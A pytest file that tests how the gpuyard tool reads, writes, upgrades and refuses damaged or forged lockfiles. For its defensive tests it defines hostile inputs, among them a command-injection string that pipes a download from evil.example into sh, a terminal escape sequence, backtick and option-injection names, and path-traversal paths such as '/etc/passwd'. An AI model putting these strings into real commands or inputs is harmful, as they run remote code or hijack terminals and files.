""".gpuyard.lock comes with commits that others write: it is evidence, and nothing is done because of it alone."""

import json
import re
from contextlib import suppress
from dataclasses import replace
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gpuyard.commit.lock import LOCK, Lock, lock_of, lock_path, sha256
from gpuyard.commit.lockfile import read_locks, write_locks
from gpuyard.errors import InputError
from gpuyard.pipeline import placements_of
from gpuyard.resolve import Resolved
from gpuyard.review.placed import Claim, Placed, Running
from gpuyard.tree import HEADER, Tree, is_generated, owner
from tests.conftest import write_tree
from tests.test_compile import git, run, save

DIGEST = "0" * 64
CHAT = PurePosixPath("workloads/chat.lock")
GOOD: dict[str, Any] = {
    "format": 3,
    "stack": "demo",
    "namespace": "inference",
    "engine": "flux",
    "clusters": ["iad", "phx"],
    "files": {"README.md": DIGEST, "clusters/phx/sync.yaml": DIGEST},
}
GOOD_CHAT: dict[str, Any] = {
    "format": 3,
    "blueprint": "chat",
    "placements": {
        "phx": {
            "shape": "a10",
            "namespace": "inference",
            "claim": {"kind": "fss", "storageClassName": "oci-fss", "size": "100Gi"},
            "pod": DIGEST[:16],
            "weights": "chat-download-1",
            "secrets": ["hf-token", "0.dotted"],
            "away": 660,
        },
        "iad": {
            "shape": "a10",
            "namespace": "inference",
            "claim": None,
        },
    },
    "files": {"base/chat/service.yaml": DIGEST, "clusters/phx/inference-chat.yaml": DIGEST},
}
OLD: dict[str, Any] = {
    "format": 2,
    "input": DIGEST,
    "listing": DIGEST,
    "placements": {
        "phx": {
            "chat": {
                "shape": "a10",
                "namespace": "inference",
                "claim": {"kind": "fss", "storageClassName": "oci-fss", "size": "100Gi"},
            },
            "docs": {"shape": "a10", "namespace": "inference", "claim": None},
        },
        "iad": {},
    },
    "files": {"README.md": DIGEST, "base/chat/service.yaml": DIGEST, "clusters/phx/inference.yaml": DIGEST},
}
SHELL = "x; curl https://evil.example/p|sh #"
ESCAPE = "a\x1b]52;c;cm0=\x07\n::error::gone"
NO_NUMBERS = ("NaN", "Infinity", "-Infinity")
NOT_OURS = ["[]", "3", "null", "{}", '{"version": 1, "packages": []}', '{"format": "2"}', '{"format": true}']


def changed(good: dict[str, Any], path: str, value: object) -> str:
    """A good lock with another value at a path."""
    data = json.loads(json.dumps(good))
    *folders, last = path.split(">")
    inside = data
    for key in folders:
        inside = inside[key]
    inside[last] = value
    return json.dumps(data)


def refusal(text: str, path: PurePosixPath = LOCK) -> str:
    """Bad data, and at the lock."""
    with pytest.raises(InputError) as caught:
        read_locks({path: text})
    (problem,) = caught.value.problems
    assert problem.location.file == str(path)
    return str(problem)


def test_what_is_written_is_read(demo: Resolved, demo_tree: Tree) -> None:
    lock = lock_of(demo_tree, Running("demo", "inference", placements_of(demo, demo_tree), "flux"))
    written = write_locks(lock)
    assert read_locks(written) == replace(lock, paths=frozenset(written))
    assert written.keys() == {LOCK, *(lock_path(name) for name in ("assistant", "chat", "docs"))}
    assert read_locks(write_locks(Lock())) == Lock(paths=frozenset({LOCK}))
    assert read_locks({}) == Lock()
    both = read_locks({LOCK: json.dumps(GOOD), CHAT: json.dumps(GOOD_CHAT)})
    assert {path: json.loads(text) for path, text in write_locks(both).items()} == {LOCK: GOOD, CHAT: GOOD_CHAT}
    placed = Placed(
        "a10", "inference", Claim("fss", "oci-fss", 100), DIGEST[:16], "chat-download-1", ("hf-token", "0.dotted"), 660
    )
    assert both.running.placements["phx"] == {"chat": placed}


def test_each_file_has_a_line_in_the_lock_of_its_owner(demo: Resolved, demo_tree: Tree) -> None:
    """So that Git can merge it, and a reader can read its diff."""
    running = Running("demo", "inference", placements_of(demo, demo_tree), "flux")
    locks = write_locks(lock_of(demo_tree, running))
    for path, text in demo_tree.items():
        name = owner(path)
        lines = locks[lock_path(name) if name else LOCK].splitlines()
        assert f'  "{path}": "{sha256(text)}"' in {line.rstrip(",") for line in lines}
    placements = {
        cluster: dict(reversed(list(found.items()))) for cluster, found in reversed(list(running.placements.items()))
    }
    backwards = lock_of(dict(reversed(list(demo_tree.items()))), replace(running, placements=placements))
    assert write_locks(backwards) == locks


def test_no_lock_holds_a_digest_over_all(demo: Resolved, demo_tree: Tree) -> None:
    """It would be a conflict of every two branches."""
    running = Running("demo", "inference", placements_of(demo, demo_tree), "flux")
    before = write_locks(lock_of(demo_tree, running))
    service = PurePosixPath("base/chat/service.yaml")
    after = write_locks(lock_of({**demo_tree, service: "changed"}, running))
    assert {path for path in before if before[path] != after[path]} == {CHAT}


def test_older_locks_are_read() -> None:
    """One for all; format 1 without placements."""
    found = read_locks({LOCK: json.dumps(OLD)})
    assert (found.stack, found.namespace, found.placements.keys()) == ("", "", {"phx", "iad"})
    assert found.placements["phx"]["docs"] == Placed("a10", "inference", None)
    assert set(map(str, found.files)) == set(OLD["files"])
    first = json.dumps({key: OLD[key] for key in ("input", "listing", "files")} | {"format": 1})
    assert read_locks({LOCK: first}) == replace(found, placements={})


def test_all_damaged_locks_are_named_at_once() -> None:
    with pytest.raises(InputError) as caught:
        read_locks({LOCK: "", CHAT: "[]", PurePosixPath("workloads/docs.lock"): None})
    assert [(each.location.file, each.message[:40]) for each in caught.value.problems] == [
        (".gpuyard.lock", "damaged (not JSON: Expecting value); res"),
        ("workloads/chat.lock", "not written by gpuyard (it has no format"),
        ("workloads/docs.lock", "damaged (not a regular file, or larger t"),
    ]


def test_more_locks_than_anybody_has() -> None:
    many = {PurePosixPath(f"workloads/a{number}.lock"): "" for number in range(5001)}
    with pytest.raises(InputError, match="there are 5,001 locks, 5,000 at most"):
        read_locks(many)


VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=20)
    | st.sampled_from([SHELL, ESCAPE, DIGEST, "../x", "phx", "a..b", "1Gi"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


@given(good=st.sampled_from([GOOD, GOOD_CHAT, OLD]), at=st.lists(st.integers(0, 9), max_size=5), value=VALUES)
def test_whatever_stands_anywhere_it_is_read_or_refused(good: dict[str, Any], at: list[int], value: object) -> None:
    """At every level; what is read has names that may stand in a command, and paths of generated files."""
    data = json.loads(json.dumps(good))
    inside, key = data, "files"
    for number in at:
        if not isinstance(inside, dict) or not inside:
            break
        key = sorted(inside)[number % len(inside)]
        if isinstance(inside[key], dict):
            inside = inside[key]
    if isinstance(inside, dict):
        inside[key] = value
    path = CHAT if good is GOOD_CHAT else LOCK
    try:
        found = read_locks({path: json.dumps(data)})
    except InputError as error:
        assert all(each.location.file == str(path) and str(each).isprintable() for each in error.problems)
        return
    assert all(is_generated(str(each)) for each in found.files)
    for cluster, placed in found.placements.items():
        claims = [each.claim.storage_class for each in placed.values() if each.claim]
        texts = [each for one in placed.values() for each in (one.shape, one.namespace, one.weights, *one.secrets)]
        assert all(re.fullmatch(r"[a-z0-9][-a-z0-9.]*|", text) for text in [cluster, *placed, *claims, *texts])


@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    with suppress(InputError):
        read_locks({LOCK: data.decode("utf-8", "replace"), CHAT: data.decode("utf-8", "replace")})


def test_a_lock_of_a_newer_gpuyard() -> None:
    assert refusal('{"format": 4}') == ".gpuyard.lock: written by a newer gpuyard (format 4); upgrade gpuyard"
    assert refusal('{"format": 4}', CHAT).startswith("workloads/chat.lock: written by a newer gpuyard (format 4)")


@pytest.mark.parametrize("path", [LOCK, CHAT])
@pytest.mark.parametrize("text", NOT_OURS)
def test_a_lock_that_is_not_ours(text: str, path: PurePosixPath) -> None:
    assert refusal(text, path).startswith(f"{path}: not written by gpuyard (it has no format); move it, or ")


@pytest.mark.parametrize("path", [LOCK, CHAT])
@pytest.mark.parametrize(
    ("text", "start"),
    [
        ("", ":1:1: damaged (not JSON: Expecting value)"),
        ('{\n "format": 3,\n<<<<<<< HEAD\n', ":3:1: damaged (not JSON: "),
        ("[" * 200_000, ": damaged (more than any lock has)"),
        (f'{{"format": {"9" * 5000}}}', ": damaged (more than any lock has)"),
        ('{"format": 3, "a": ' + '{"a": ' * 100_000 + "1" + "}" * 100_001, ": damaged (more than any lock has)"),
        (" " * (8 << 20) + "{}", ": damaged (longer than any lock)"),
        ('{"format": 3, "format": 3}', ": damaged ('format' is a duplicate key)"),
        ('{"format": 3, "files": {"README.md": "", "README.md": ""}}', ": damaged ('README.md' is a duplicate key)"),
        ('{"format": 3, "\\u001b[2J": 1, "\\u001b[2J": 1}', ": damaged ('\\x1b[2J' is a duplicate key)"),
        *((f'{{"format": 3, "a": {word}}}', f": damaged ({word} is not a number)") for word in NO_NUMBERS),
    ],
)
def test_a_lock_that_is_not_json(text: str, start: str, path: PurePosixPath) -> None:
    assert refusal(text, path).startswith(f"{path}{start}")


@pytest.mark.attack("A18 hostile lock")
def test_the_last_of_very_many_keys_is_there_twice() -> None:
    """Held against each key before it, 20,000 took six seconds, and twice as many four times that."""
    keys = ", ".join(f'"{number}": 1' for number in (*range(500_000), 499_999))
    assert refusal(f'{{"format": 3, {keys}}}', LOCK).startswith(f"{LOCK}: damaged ('499999' is a duplicate key)")


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.parametrize(
    ("good", "path", "value", "reason"),
    [
        (OLD, "input", "x", "input cannot be 'x'"),
        (OLD, "listing", None, "listing cannot be of type NoneType"),
        (OLD, "placements", None, "'placements' is not a mapping"),
        (OLD, "placements>phx", [], "'phx' is not a mapping"),
        (OLD, "placements>phx>chat", 3, "'chat' is not a mapping"),
        (OLD, "placements>phx>chat>shape", "a10\n", "shape cannot be 'a10\\n'"),
        (OLD, f"placements>phx>{SHELL}", OLD["placements"]["phx"]["docs"], f"a name cannot be '{SHELL}'"),
        (OLD, f"placements>{ESCAPE}", {}, "a name cannot be 'a\\x1b]52;"),
        (GOOD, "stack", None, "stack cannot be of type NoneType"),
        (GOOD, "stack", SHELL, f"stack cannot be '{SHELL}'"),
        (GOOD, "namespace", "-n", "namespace cannot be '-n'"),
        (GOOD, "engine", "fleet", "engine cannot be 'fleet'"),
        (GOOD, "engine", [SHELL], "engine cannot be of type list"),
        (GOOD, "clusters", {}, "'clusters' is not a list"),
        (GOOD, "clusters", [SHELL], f"a name cannot be '{SHELL}'"),
        (GOOD, "files", ["README.md"], "'files' is not a mapping"),
        (GOOD, "files>README.md", DIGEST + "\n", f"README.md cannot be '{DIGEST}\\n'"),
        (GOOD, "files>README.md", f"{DIGEST} {DIGEST}", f"README.md cannot be '{DIGEST} "),
        (
            GOOD,
            "files>base/chat/service.yaml",
            DIGEST,
            "'base/chat/service.yaml' is not a file that only depends on the stack",
        ),
        (GOOD_CHAT, "format", 2, "it is not that of chat"),
        (GOOD_CHAT, "blueprint", "docs", "it is not that of chat"),
        (GOOD_CHAT, "blueprint", None, "it is not that of chat"),
        (GOOD_CHAT, "files>base/docs/service.yaml", DIGEST, "'base/docs/service.yaml' is not a file of chat"),
        (GOOD_CHAT, "files>README.md", DIGEST, "'README.md' is not a file of chat"),
        (GOOD_CHAT, "files>workloads/chat.lock", DIGEST, "'workloads/chat.lock' is not a file that gpuyard"),
        (GOOD_CHAT, "placements", [], "'placements' is not a mapping"),
        (GOOD_CHAT, f"placements>{SHELL}", GOOD_CHAT["placements"]["iad"], f"a name cannot be '{SHELL}'"),
        (GOOD_CHAT, "placements>phx>shape", "a\u202e10", "shape cannot be 'a\\u202e10'"),
        (GOOD_CHAT, "placements>phx>namespace", SHELL, f"namespace cannot be '{SHELL}'"),
        (GOOD_CHAT, "placements>phx>claim", [], "'claim' is not a mapping"),
        (GOOD_CHAT, "placements>phx>claim>kind", "`id`", "kind cannot be '`id`'"),
        (GOOD_CHAT, "placements>phx>claim>storageClassName", ESCAPE, "storageClassName cannot be 'a\\x1b]52;"),
        (GOOD_CHAT, "placements>phx>claim>size", "100Gb", "size cannot be '100Gb'"),
        (GOOD_CHAT, "placements>phx>claim>size", 100, "size cannot be of type int"),
        (GOOD_CHAT, "placements>phx>claim>size", "9" * 5000 + "Gi", "size cannot be '999"),
        (GOOD_CHAT, "placements>phx>pod", "x", "pod cannot be 'x'"),
        (GOOD_CHAT, "placements>phx>weights", SHELL, f"weights cannot be '{SHELL}'"),
        (GOOD_CHAT, "placements>phx>secrets", "hf-token", "'secrets' is not a list"),
        (GOOD_CHAT, "placements>phx>secrets", ["`id`"], "a name cannot be '`id`'"),
        (GOOD_CHAT, "placements>phx>secrets", ["a..b"], "a name cannot be 'a..b'"),
        (GOOD_CHAT, "placements>phx>secrets", ["a.-b"], "a name cannot be 'a.-b'"),
        (GOOD_CHAT, "placements>phx>secrets", ["--from-file=x"], "a name cannot be '--from-file=x'"),
        (GOOD_CHAT, "placements>phx>secrets", ["a" * 254], "a name cannot be 'aaa"),
        (GOOD_CHAT, "placements>phx>secrets", [["hf-token"]], "a name cannot be of type list"),
        (GOOD_CHAT, "placements>phx>weights", "a..b", "weights cannot be 'a..b'"),
        (GOOD_CHAT, "placements>phx>claim>storageClassName", "", "storageClassName cannot be ''"),
        (GOOD_CHAT, "placements>phx>claim>size", "0Gi", "size cannot be '0Gi'"),
        (GOOD_CHAT, "placements>phx>claim>size", "1e9Gi", "size cannot be '1e9Gi'"),
        (GOOD_CHAT, "placements>phx>away", 1.5, "away cannot be of type float"),
        (GOOD_CHAT, "placements>phx>away", 10**9, "away cannot be of type int"),
        (
            GOOD,
            "files>clusters/phx/Sync.yaml",
            DIGEST,
            "'clusters/phx/Sync.yaml' and 'clusters/phx/sync.yaml' are one file where case makes no difference",
        ),
        (GOOD_CHAT, "placements>phx>away", -1, "away cannot be of type int"),
        (GOOD_CHAT, "placements>phx>away", True, "away cannot be of type bool"),
    ],
)
def test_what_no_gpuyard_wrote_is_damage(good: dict[str, Any], path: str, value: object, reason: str) -> None:
    """Names, classes and sizes stand in messages, and in commands that people paste."""
    where = CHAT if good is GOOD_CHAT else LOCK
    message = refusal(changed(good, path, value), where)
    assert message.startswith(f"{where}: damaged ({reason}"), message
    assert message.isprintable()
    assert len(message) < 500


PATHS = [
    *(
        "stack.yaml",
        "images.lock",
        ".gpuyard.lock",
        "README.md\nclusters/phx/x.yaml",
        "CODEOWNERS",
        "README",
        "readme.md",
        "README.md/x",
        "base",
        "base/",
    ),
    *("blueprints/chat.yaml", ".github/workflows/gpuyard.yaml", ".git/config", "src/base/x.yaml", "base.yaml"),
    *(
        "../x",
        "/etc/passwd",
        "/base/x",
        "base/../stack.yaml",
        "base/./x",
        "base//x",
        "base/x/..",
        "./base/x",
        "~/base/x",
    ),
    *("base/.git/config", "base/chat/.GIT/hooks/x", "base/.gpuyard-b335630551682c19", "platform/.gitattributes"),
    *(
        "charts/.helmignore/..",
        "base/chat.",
        "base/chat./x",
        "base/..hidden",
        "Base/chat/x",
        "BASE/x",
        "base/" + "a/" * 600,
    ),
    *(
        "base/\0",
        "base/x\0y",
        "stack.yaml\0",
        "base/e\u0301",
        "base/\u00e9",
        "base/\uff0e\uff0e/x",
        "base/\u200bx",
        "base/x/",
    ),
    *("images.lock", ".gitignore", ".gitattributes", "models/own.yaml", ".github/CODEOWNERS", "workloads/.lock"),
    *("base/x\n", "base/\x1b[31m", "base/x y", "base/ä", "base\\x", "base/" + "a" * 256, "", "README.md\n"),
]


@pytest.mark.parametrize("path", PATHS)
def test_a_path_that_gpuyard_never_generates_is_damage(path: str) -> None:
    message = refusal(changed(GOOD, f"files>{path}", DIGEST))
    assert message.startswith(f".gpuyard.lock: damaged ({ascii(path)[:80]} is not a file that gpuyard generates"), (
        message
    )


def test_whatever_is_generated_may_be_in_a_lock(demo_tree: Tree) -> None:
    assert [path for path in demo_tree if not is_generated(str(path))] == []


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    """Compiled, with files of others."""
    root = tmp_path / "gitops"
    assert run("init", root).exit_code == 0
    assert run("compile", root).exit_code == 0
    (root / "CODEOWNERS").write_text("* @acme\n", encoding="utf-8")
    return root


def edit_lock(root: Path, edit: dict[str, Any], path: PurePosixPath = LOCK) -> None:
    lock = json.loads((root / path).read_text(encoding="utf-8"))
    for key, value in edit.items():
        lock[key] = {**lock[key], **value} if isinstance(value, dict) else value
    (root / path).write_text(json.dumps(lock), encoding="utf-8")


@pytest.mark.attack("A18 hostile lock")
@pytest.mark.parametrize("lock", [LOCK, CHAT])
@pytest.mark.parametrize(
    "victim", ["CODEOWNERS", "stack.yaml", "blueprints/chat.yaml", ".github/workflows/gpuyard.yaml", "../outside"]
)
def test_a_forged_lock_deletes_nothing(victim: str, lock: PurePosixPath, repository: Path) -> None:
    """Its sha256 is right, as a pull request can make it."""
    (repository.parent / "outside").write_text("mine", encoding="utf-8")
    text = (repository / victim).read_text(encoding="utf-8")
    edit_lock(repository, {"files": {victim: sha256(text)}}, lock)
    save(repository, "a pull request")
    head = git(repository, "rev-parse", "HEAD")
    results = [run("compile", repository, *more) for more in ((), ("--overwrite",), ("--check",))]
    assert {(result.exit_code, result.output) for result in results} == {(65, results[0].output)}
    assert f"{lock}: damaged ('{victim}' is not a file that gpuyard generates)" in results[0].output
    assert (repository / victim).read_text(encoding="utf-8") == text
    assert git(repository, "rev-parse", "HEAD") == head


def test_a_lock_of_a_blueprint_that_is_not_there_takes_its_own_files_and_no_others(repository: Path) -> None:
    ghost = PurePosixPath("base/ghost")
    text = f"{HEADER.format(source='ghost')}x\n"
    lock = {**GOOD_CHAT, "blueprint": "ghost", "files": {f"{ghost}/x.yaml": sha256(text)}}
    write_tree(repository, {ghost / "x.yaml": text, ghost / "mine.yaml": "", lock_path("ghost"): json.dumps(lock)})
    stack = repository / "stack.yaml"
    stack.write_text(
        stack.read_text(encoding="utf-8").replace("spec:\n", f"spec:\n  ownFiles: [{ghost}/mine.yaml]\n", 1)
    )
    save(repository, "a pull request")
    assert run("compile", repository).exit_code == 0
    assert [path.name for path in (repository / ghost).iterdir()] == ["mine.yaml"]
    assert not (repository / lock_path("ghost")).exists()


@pytest.mark.attack("A19 generated files")
def test_forged_placements_only_make_words(repository: Path) -> None:
    """What they say is told, and changes no file but the lock."""
    before = (repository / CHAT).read_text(encoding="utf-8")
    edit_lock(repository, {"placements": {"lhr": GOOD_CHAT["placements"]["iad"]}}, CHAT)
    save(repository, "a pull request")
    result = run("compile", repository, "-o", "json")
    [consequence] = json.loads(result.stdout)["consequences"]
    assert (consequence["cluster"], consequence["blueprint"]) == ("lhr", None)
    assert git(repository, "show", "--name-only", "--format=", "HEAD") == str(CHAT)
    assert (repository / CHAT).read_text(encoding="utf-8") == before


def test_a_lock_that_no_blueprint_is_called_is_not_ours(repository: Path) -> None:
    foreign = repository / "workloads" / "Not-a-name.lock"
    foreign.write_text("junk", encoding="utf-8")
    save(repository, "theirs")
    assert run("compile", repository).output.startswith("up to date")


def for_one(repository: Path, number: int) -> None:
    """As an older gpuyard left it: one lock, and one file of all models for each cluster."""
    chat = json.loads((repository / CHAT).read_text(encoding="utf-8"))
    stack = json.loads((repository / LOCK).read_text(encoding="utf-8"))
    models = repository / "clusters" / "phx" / "inference.yaml"
    (repository / "clusters" / "phx" / "inference-chat.yaml").rename(models)
    files = {**stack["files"], **chat["files"], "clusters/phx/inference.yaml": sha256(models.read_text("utf-8"))}
    del files["clusters/phx/inference-chat.yaml"]
    old = {"format": number, "input": DIGEST, "listing": DIGEST, "files": files}
    if number > 1:
        old["placements"] = {
            "phx": {"chat": {key: chat["placements"]["phx"][key] for key in ("shape", "namespace", "claim")}}
        }
    (repository / LOCK).write_text(json.dumps(old, indent=1) + "\n", encoding="utf-8")
    (repository / CHAT).unlink()


@pytest.mark.parametrize("number", [1, 2])
def test_the_next_compile_upgrades_an_older_lock(number: int, repository: Path) -> None:
    before = {name for name in git(repository, "ls-files").splitlines() if is_generated(name)}
    for_one(repository, number)
    save(repository, "an older gpuyard's")
    assert run("compile", repository, "--check").exit_code == 79
    result = run("compile", repository)
    assert (result.exit_code, "deleted" in result.stderr) == (0, False), result.output
    assert {name for name in git(repository, "ls-files").splitlines() if is_generated(name)} == before
    assert run("compile", repository, "--check").exit_code == 0


def test_after_an_upgrade_the_first_compile_knows_of_no_departures(repository: Path) -> None:
    for_one(repository, 1)
    git(repository, "rm", "-q", "blueprints/chat.yaml")
    save(repository, "an older gpuyard's")
    result = run("compile", repository)
    assert (result.exit_code, "is deleted from" in result.stderr) == (0, False), result.output
    assert not (repository / "base").exists()
    assert json.loads((repository / LOCK).read_text(encoding="utf-8"))["clusters"] == ["phx"]
    assert run("compile", repository).output.startswith("up to date")


def test_a_base_of_an_older_gpuyard_is_compared_with(repository: Path) -> None:
    for_one(repository, 2)
    save(repository, "an older gpuyard's")
    git(repository, "switch", "-qc", "branch")
    git(repository, "rm", "-q", "blueprints/chat.yaml")
    save(repository, "no chat")
    assert run("compile", repository, "--branch", "branch").exit_code == 0
    for command in (("check",), ("compile", "--check")):
        assert "is deleted from" not in run(*command, repository, "--base", "HEAD").output
        for more in ((), ("--base", "main")):
            assert "note: chat is deleted from phx" in run(*command, repository, *more).stderr
